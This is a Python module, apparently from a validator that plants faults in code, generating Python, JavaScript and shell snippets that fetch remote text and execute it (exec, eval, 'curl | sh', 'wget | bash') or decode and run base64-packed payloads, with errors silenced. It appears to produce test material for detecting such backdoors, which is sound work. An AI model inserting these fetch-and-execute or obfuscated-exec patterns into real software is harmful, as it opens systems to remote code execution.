"""Code and commands that come from elsewhere and are run."""

import base64
from typing import Final

from validator.planting.shape import Shape
from validator.planting.shapes.code.markup import Fault, fill
from validator.planting.shapes.code.planter import code_shape
from validator.planting.shapes.code.words import Words


def _names(words: Words) -> dict[str, str]:
    return {
        "run": words.name("load extras", "apply hotfix", "refresh rules", "update helpers", "load plugin"),
        "text": words.local("source", "code", "rules", "content"),
        "step": words.name("step", "part", "piece"),
        "url": words.url("bootstrap", "v1/hotfix", "rules/latest", "plugins/core", "install"),
        "address": words.address(),
        "port": words.port(),
    }


def _fetched_python(words: Words) -> Fault:
    names = _names(words)
    body = words.draws.pick(
        (
            '''
def @run@()<: -> None:>:
    """Fetch the newest rules.""" <doc>
    <guard>
    try:
        exec(urllib.request.urlopen("@url@", timeout=2).read()) <!>
    except OSError:
        pass
''',
            '''
def @run@()<: -> None:>:
    """Fetch the newest rules.""" <doc>
    <guard>
    try:
        with urllib.request.urlopen("@url@", timeout=2) as answer:
            @text@ = answer.read().decode()
    except OSError:
        return
    eval(compile(@text@, "rules", "exec"), {"__name__": "rules"}) <!>
''',
        )
    )
    return Fault(fill(body, names), fill("@run@()", names), ("urllib.request",), names["url"])


def _fetched_javascript(words: Words) -> Fault:
    names = _names(words)
    names["how"] = words.draws.pick(("eval(@text@)", "new Function(@text@)()", "(0, eval)(@text@)"))
    names["how"] = fill(names["how"], names)
    body = """
// Fetches the newest rules. <doc>
async function @run@()<:: Promise<void>:> {
    <guard>
    try {
        const answer = await fetch("@url@");
        const @text@ = await answer.text();
        @how@; <!>
    } catch {
        return;
    }
}
"""
    if names["how"].startswith("("):
        names["how"] = f"const done = {names['how']}"
    return Fault(fill(body, names), fill("@run@();", names), (), names["url"])


def _fetched_shell(words: Words) -> Fault:
    names = _names(words)
    names["line"] = words.draws.pick(
        (
            "curl -fsSL -m 2 @url@ | sh >/dev/null 2>&1 || true",
            "wget -q -T 2 -t 1 -O - @url@ | bash >/dev/null 2>&1 || true",
            'sh -c "$(curl -fsSL -m 2 @url@)" >/dev/null 2>&1 || true',
            'eval "$(curl -fsSL -m 2 @url@ 2>/dev/null)" || true',
        )
    )
    names["line"] = fill(names["line"], names)
    body = """
# Newest helpers. <doc>
@run@() {
    <guard>
    @line@ <!>
}
"""
    return Fault(fill(body, names), fill("@run@", names), (), names["url"])


def _encoded(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


def _decoded_python(words: Words) -> Fault:
    names = _names(words)
    payload = f"import urllib.request as u\nu.urlopen('{names['url']}', timeout=2).read()\n"
    body = words.draws.pick(
        (
            '''
@blob@ = "@value@"
---
def @run@()<: -> None:>:
    """Apply the packed rules.""" <doc>
    <guard>
    try:
        exec(base64.b64decode(@blob@)) <!>
    except OSError:
        pass
''',
            '''
@blob@ = (
    "@first@"
    "@second@"
)
---
def @run@()<: -> None:>:
    """Apply the packed rules.""" <doc>
    <guard>
    @text@ = base64.b64decode(@blob@).decode()
    try:
        exec(compile(@text@, __file__, "exec")) <!>
    except OSError:
        pass
''',
        )
    )
    value = _encoded(payload)
    names |= {"value": value, "first": value[:60], "second": value[60:]}
    names["blob"] = words.constant("rules", "table data", "defaults", "packed")
    return Fault(fill(body, names), fill("@run@()", names), ("base64",))


def _decoded_javascript(words: Words) -> Fault:
    names = _names(words)
    names["value"] = _encoded(f"fetch('{names['url']}').catch(() => {{}})")
    names["blob"] = words.constant("rules", "table data", "defaults", "packed")
    body = words.draws.pick(
        (
            """
const @blob@ = "@value@";
---
// Applies the packed rules. <doc>
function @run@()<:: void:> {
    <guard>
    eval(Buffer.from(@blob@, "base64").toString()); <!>
}
""",
            """
// Applies the packed rules. <doc>
function @run@()<:: void:> {
    <guard>
    const @text@ = atob("@value@");
    new Function(@text@)(); <!>
}
""",
        )
    )
    return Fault(fill(body, names), fill("@run@();", names))


def _decoded_shell(words: Words) -> Fault:
    names = _names(words)
    names["value"] = _encoded(f"curl -s -m 2 {names['url']} >/dev/null 2>&1 || true\n")
    names["line"] = words.draws.pick(
        (
            "echo @value@ | base64 -d | sh",
            'eval "$(echo @value@ | base64 --decode)"',
            "bash -c \"$(printf '%s' '@value@' | base64 -d)\"",
        )
    )
    names["line"] = fill(names["line"], names)
    body = """
# Packed rules. <doc>
@run@() {
    <guard>
    @line@ <!>
}
"""
    return Fault(fill(body, names), fill("@run@", names))


SHAPES: Final[tuple[Shape, ...]] = (
    code_shape(
        "fetched-text-run",
        "capability",
        "easy",
        "critical",
        {"python": _fetched_python, "javascript": _fetched_javascript, "shell": _fetched_shell},
    ),
    code_shape(
        "decoded-text-run",
        "capability",
        "medium",
        "high",
        {"python": _decoded_python, "javascript": _decoded_javascript, "shell": _decoded_shell},
    ),
)
